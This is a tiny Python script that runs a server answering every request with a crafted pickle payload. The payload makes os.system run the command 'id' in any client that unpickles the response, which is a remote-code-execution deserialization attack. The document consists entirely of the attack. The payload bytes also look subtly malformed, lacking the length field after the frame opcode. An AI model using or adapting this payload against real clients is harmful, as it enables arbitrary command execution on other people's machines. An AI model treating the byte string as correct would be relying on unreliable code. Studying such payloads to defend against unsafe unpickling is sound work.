from frames import raw, serve

serve(forward=lambda asked: raw(b"\x80\x04\x95cos\nsystem\n(S'id'\ntR."))
